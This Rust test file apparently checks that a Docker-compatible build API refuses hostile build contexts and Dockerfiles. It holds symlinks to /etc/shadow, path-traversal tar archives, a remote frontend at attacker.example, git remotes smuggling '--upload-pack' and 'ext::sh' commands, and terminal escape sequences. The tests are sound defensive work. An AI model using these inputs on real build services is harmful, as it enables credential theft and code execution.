//! Build contexts and Dockerfiles: rows D01 to D11.

use bytes::Bytes;
use http::Method;
#[cfg(target_arch = "wasm32")]
use wasm_bindgen_test::wasm_bindgen_test as test;

use crate::bench::{Answer, Bench, archive, image};
use crate::tars::Tar;

fn build(bench: &Bench, context: Tar, dockerfile: &str) -> Answer {
    bench.tar(
        "/build?t=made:1&version=1",
        context.file("Dockerfile", dockerfile).end(),
    )
}

fn with_base() -> Bench {
    let bench = Bench::new();
    assert_eq!(
        bench
            .tar("/images/load", archive(&image(|_| {}), "x:1"))
            .error(),
        None
    );
    bench
}

/// The file of the built image, as `docker cp` gives it.
fn file(bench: &Bench, path: &str) -> Option<String> {
    let made = bench.post(
        "/containers/create",
        &serde_json::json!({"Image": "made:1"}),
    );
    let id = made.json()["Id"].as_str()?.to_owned();
    let answer = bench.get(&format!("/containers/{id}/archive?path={path}"));
    (answer.status == 200).then(|| answer.text())
}

/// Row D01: a link in the context leads to the context's own files.
#[test]
fn d01_links_stay_in_the_context() {
    for target in [
        "/etc/shadow",
        "../../../etc/shadow",
        "/proc/self/environ",
        "inner",
    ] {
        let bench = with_base();
        let context = Tar::new()
            .symlink("link", target)
            .file("etc/shadow", "the context's own");
        let answer = build(&bench, context, "FROM x:1\nCOPY link /copied\n");
        match answer.error() {
            Some(_) => {}
            None => {
                let copied = file(&bench, "/copied").unwrap_or_default();
                assert!(
                    !copied.contains("root:") && !copied.contains("PATH="),
                    "D01 {target}: {copied}"
                );
            }
        }
    }
}

/// Row D02: an archive that ADD unpacks is a stranger's, as a layer is.
#[test]
fn d02_added_archives_stay_inside() {
    for (row, tar) in [
        ("A01", Tar::new().file("../victim", "x")),
        ("A02", Tar::new().file("/../victim", "x")),
        ("A07", Tar::new().hardlink("h", "../victim")),
        ("A10", Tar::new().hardlink("h", "later").file("later", "x")),
        ("A11", Tar::new().dir("d").hardlink("h", "d")),
        ("A15", Tar::new().symlink(".", "/")),
        (
            "B03",
            Tar::new().extended(b'x', b"99 path=x\n").file("f", ""),
        ),
        ("B04", Tar::new().raw("x", b'x', 1 << 30, |_| {})),
        ("B06", Tar::new().raw("f", b'V', 0, |_| {})),
        ("B07", Tar(Tar::new().file("f", "data").0[..514].to_vec())),
    ] {
        let bench = with_base();
        let bytes = tar.end();
        let context = Tar::new()
            .raw("evil.tar", b'0', bytes.len() as u64, |_| {})
            .data(&bytes);
        let answer = build(&bench, context, "FROM x:1\nADD evil.tar /in/\n");
        bench.refused(&format!("D02 {row}"), &answer);
        assert_eq!(bench.get("/images/made:1/json").status, 404, "D02 {row}");
    }
    for (row, tar) in [
        (
            "A04",
            Tar::new()
                .symlink("loophole", "../../up")
                .file("loophole/file", "x"),
        ),
        (
            "A05",
            Tar::new().symlink("a", "/").file("a/etc/passwd", "x"),
        ),
    ] {
        let bench = with_base();
        let bytes = tar.end();
        let context = Tar::new()
            .raw("evil.tar", b'0', bytes.len() as u64, |_| {})
            .data(&bytes);
        // Taken or not, what is written is the image's.
        let _ = build(&bench, context, "FROM x:1\nADD evil.tar /in/\n");
        assert_eq!(
            build(&bench, Tar::new(), "FROM x:1\nCMD [\"x\"]\n").error(),
            None,
            "D02 {row}"
        );
    }
}

/// Row D03: only http and https, no way from outside into private networks, and a limit to what comes.
#[test]
fn d03_remote_files_are_bounded() {
    for url in [
        "file:///etc/passwd",
        "ftp://r.example/x",
        "https://",
        "gopher://x/",
    ] {
        let bench = with_base();
        let answer = build(&bench, Tar::new(), &format!("FROM x:1\nADD {url} /x\n"));
        bench.refused(&format!("D03 {url}"), &answer);
        let asked = bench.remote.asked.borrow();
        let other = asked.iter().any(|url| !url.starts_with("https://"));
        assert!(!other, "D03 {url}: {asked:?}");
    }
    let bench = with_base();
    bench.remote.on("/big", "x/y", vec![0; 65 << 20]);
    let answer = build(
        &bench,
        Tar::new(),
        "FROM x:1\nADD https://r.example/big /big\n",
    );
    bench.refused("D03 big", &answer);
    assert_eq!(
        build(&bench, Tar::new(), "FROM x:1\nCMD [\"x\"]\n").error(),
        None,
        "D03: room again"
    );
}

/// Rows D04 to D09 and D11: what a Dockerfile asks for and does not get.
#[test]
fn dockerfiles_that_ask_for_too_much() {
    let onbuild = format!("FROM x:1\n{}RUN x\n", "ONBUILD ".repeat(10_000));
    let heredoc = format!(
        "FROM x:1\nCOPY <<E /x\n{}E\n",
        "x".repeat(1 << 10).repeat(1 << 12) + "\n"
    );
    let nested = format!(
        "FROM x:1\nARG a\nENV b={}{}\n",
        "${a:-".repeat(100_000 / 8),
        "}".repeat(100_000 / 8)
    );
    for (row, dockerfile) in [
        ("D04 reference", "FROM ../../x\n"),
        ("D04 stage number", "FROM x:1\nCOPY --from=99 /a /b\n"),
        ("D04 stage name", "FROM x:1\nCOPY --from=../../x /a /b\n"),
        (
            "D04 out of the context",
            "FROM x:1\nCOPY ../../etc/passwd /x\n",
        ),
        (
            "D04 no such file",
            "FROM x:1\nCOPY --from=x:1 /up/up/etc/shadow /x\n",
        ),
        ("D07", "FROM x:1\nRUN --security=insecure /bin/probe\n"),
        ("D07 network", "FROM x:1\nRUN --network=../x /bin/probe\n"),
        ("D09 ONBUILD", &onbuild),
        ("D09 here-document", &heredoc),
        ("D09 expansion", &nested),
        (
            "D11",
            "FROM x:1\nHEALTHCHECK --interval=\u{1b}]0;owned\u{7} CMD x\n",
        ),
        ("D11 instruction", "FROM x:1\n\u{1b}[2JRUN x\n"),
    ] {
        let bench = with_base();
        bench.refused(row, &build(&bench, Tar::new(), dockerfile));
        assert_eq!(bench.get("/images/made:1/json").status, 404, "{row}");
    }
}

/// Row D07: another frontend is not run, be it asked for nicely.
#[test]
fn d07_no_other_frontend_runs() {
    let bench = with_base();
    let answer = build(
        &bench,
        Tar::new(),
        "# syntax=attacker.example/frontend:latest\nFROM x:1\nCMD [\"x\"]\n",
    );
    let _ = answer.error();
    assert!(
        bench
            .remote
            .asked
            .borrow()
            .iter()
            .all(|url| !url.contains("attacker")),
        "{:?}",
        bench.remote.asked
    );
}

/// Row D08: a git address is an address, not arguments.
#[test]
fn d08_git_contexts_are_addresses() {
    for remote in [
        "https://x.example/y.git%23ref:../../dir",
        "--upload-pack=touch%20/owned",
        "https://x.example/y.git%23--upload-pack=x",
        "ext::sh%20-c%20x",
        "file:///etc",
    ] {
        let bench = with_base();
        let target = format!("/build?remote={remote}&version=1");
        let answer = bench.ask(Method::POST, &target, "application/x-tar", Bytes::new());
        bench.refused(&format!("D08 {remote}"), &answer);
    }
}

/// Row D10: patterns that make a backtracking matcher despair.
#[test]
fn d10_ignore_patterns_end() {
    let bench = with_base();
    let pattern = "**/a**/b**/".repeat(12) + "c\n" + &"*a".repeat(200) + "\n";
    let mut context = Tar::new().file(".dockerignore", &pattern);
    for i in 0..200 {
        context = context.file(&format!("{}{i}", "a/b/".repeat(20)), "");
    }
    let answer = build(&bench, context, "FROM x:1\nCOPY . /all/\n");
    assert_eq!(answer.error(), None, "D10");
}
